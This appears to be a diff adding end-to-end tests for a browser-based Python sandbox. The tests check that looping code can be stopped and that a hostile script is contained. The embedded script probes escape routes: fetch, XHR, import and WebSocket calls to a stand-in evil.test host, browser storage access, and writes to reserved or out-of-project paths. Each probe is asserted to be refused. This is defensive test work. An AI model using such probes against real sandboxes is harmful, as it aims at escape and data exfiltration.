@@ -7,10 +7,12 @@ no network, no storage and no reserved path, while the host keeps answering."""
 
 from __future__ import annotations
 
+import json
 import time
 
 from e2e.files_kit import file_entry, open_file, set_editor_text, wait_editor
 from e2e.hostpage import HostPage
+from e2e.site import SiteRouter
 from e2e.tray_kit import open_in_ui, shot
 
 HELLO = """\
@@ -82,3 +84,143 @@ def test_run_streams_output_and_the_host_applies_the_written_file_with_a_receipt
         "() => document.getElementById('python-output').textContent.includes('x is 30')"
     )
     shot(host.page, "python-run")
+
+
+def _run_ui(host: HostPage) -> None:
+    host.page.click("#python-run")
+    host.page.wait_for_selector("#python-stop:not([disabled])")
+
+
+def _stop_within(host: HostPage, limit_s: float) -> float:
+    started = time.monotonic()
+    host.page.click("#python-stop")
+    _wait_status(host, "Stopped after", timeout=int(limit_s * 1000) + 1000)
+    took = time.monotonic() - started
+    assert took < limit_s, took
+    assert "Python was restarted" in (host.page.text_content("#python-status") or "")
+    return took
+
+
+def test_a_busy_loop_and_a_long_sleep_are_stopped_by_restart_while_the_host_answers(
+    host: HostPage,
+) -> None:
+    pid = _project(
+        host,
+        {
+            "spin.py": b"print('spinning', flush=True)\nwhile True: pass\n",
+            "nap.py": b"import time\nprint('sleeping', flush=True)\ntime.sleep(100)\n",
+        },
+    )
+    _open_py(host, pid, "spin.py")
+    _run_ui(host)
+    host.page.wait_for_function(
+        "() => document.getElementById('python-output').textContent.includes('spinning')",
+        timeout=RUNTIME_BOOT_MS,
+    )
+    for _ in range(3):  # the host keeps answering while the person's code loops
+        started = time.monotonic()
+        host.ok("host.info")
+        assert time.monotonic() - started < 1.0
+    took = _stop_within(host, 2.0)
+    open_file(host.page, "nap.py")
+    _run_ui(host)
+    host.page.wait_for_function(
+        "() => document.getElementById('python-output').textContent.includes('sleeping')",
+        timeout=RUNTIME_BOOT_MS,
+    )
+    _stop_within(host, 2.0)
+    print(f"stop took {took * 1000:.0f} ms")
+
+
+HOSTILE = """import os
+import js
+from pyodide.ffi import create_proxy
+
+seen = {}
+
+def note(name):
+    return create_proxy(lambda *a: seen.__setitem__(name, "settled"))
+
+def sync(name, fn):
+    try:
+        fn()
+        print(name, "REACHED")
+    except Exception as exc:
+        print(name, "refused", type(exc).__name__)
+
+real_fetch = js.WorkerGlobalScope.prototype.fetch
+for url in ("https://evil.test/f", "https://app.test/vbx/site-manifest.json"):
+    real_fetch.call(js.self, url).then(note("fetch-ok " + url), note("fetch-refused " + url))
+js.fetch("https://evil.test/g").then(note("fake-ok"), note("fake-refused"))
+
+def xhr():
+    x = js.XMLHttpRequest.new()
+    x.open("GET", "https://evil.test/x", False)
+    x.send()
+
+sync("xhr", xhr)
+sync("import", lambda: js.Function.new("return import('https://evil.test/m.js')")())
+sync("importScripts", lambda: js.importScripts("https://evil.test/i.js"))
+ws = None
+try:
+    ws = js.WebSocket.new("wss://evil.test/ws")
+    ws.onerror = note("ws-error")
+    ws.onopen = note("ws-open")
+except Exception as exc:
+    print("ws refused", type(exc).__name__)
+storage = getattr(js.navigator, "storage", None)  # an opaque origin has none at all
+if storage is None:
+    print("opfs refused (no navigator.storage)")
+else:
+    storage.getDirectory().then(note("opfs-ok"), note("opfs-refused"))
+sync("indexeddb", lambda: js.indexedDB.open("steal"))
+os.makedirs(".voicebox", exist_ok=True)
+with open(".voicebox/policy.json", "w") as f:
+    f.write("{}")
+with open("/escape.txt", "w") as f:
+    f.write("outside the project")
+with open("fine.txt", "w") as f:
+    f.write("ok")
+print("probes sent")
+"""
+
+
+def test_hostile_code_reaches_no_network_no_storage_and_no_reserved_path(
+    host: HostPage, router: SiteRouter
+) -> None:
+    failed: list[str] = []
+    host.page.context.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))
+    pid = _project(host, {"hostile.py": HOSTILE.encode()})
+    _open_py(host, pid, "hostile.py")
+    _run_ui(host)
+    status = _wait_status(host, "Exited with status")
+    output = host.page.text_content("#python-output") or ""
+    assert "status 0" in status, (status, output)
+    assert "REACHED" not in output, output
+    for probe in ("xhr refused", "import refused", "importScripts refused", "indexeddb refused"):
+        assert probe in output, output
+    for probe in ("opfs refused", "probes sent"):
+        assert probe in output, output
+    changes = host.page.locator("#python-changes")
+    reserved = changes.locator("li[data-path='.voicebox/policy.json']")
+    assert "path-reserved" in reserved.text_content()
+    assert "written" in changes.locator("li[data-path='fine.txt']").text_content()
+    assert changes.locator("li[data-path='escape.txt']").count() == 0
+    console = host.page.locator("#python-console-input")
+    settled: list[str] = []
+    deadline = time.monotonic() + 20
+    while len([k for k in settled if k.startswith(("fetch", "fake"))]) < 3:
+        assert time.monotonic() < deadline, settled
+        console.fill("import json; print('SEEN' + json.dumps(sorted(seen)))")
+        console.press("Enter")
+        _wait_status(host, "Exited with status 0")
+        text = host.page.text_content("#python-output") or ""
+        settled = json.loads(text.rsplit("SEEN", 1)[1].splitlines()[0])
+    assert not [k for k in settled if "-ok" in k or "open" in k], settled
+    assert "fetch-refused https://evil.test/f" in settled
+    assert "fetch-refused https://app.test/vbx/site-manifest.json" in settled
+    files = {f["path"] for f in host.ok("file.walk", {"project": pid})["result"]["files"]}
+    assert files == {"hostile.py", "fine.txt"}
+    assert router.foreign == [], router.foreign  # nothing reached the network layer
+    assert all(f.endswith(" csp") for f in failed if "evil.test" in f), failed
+    host.ok("host.info")
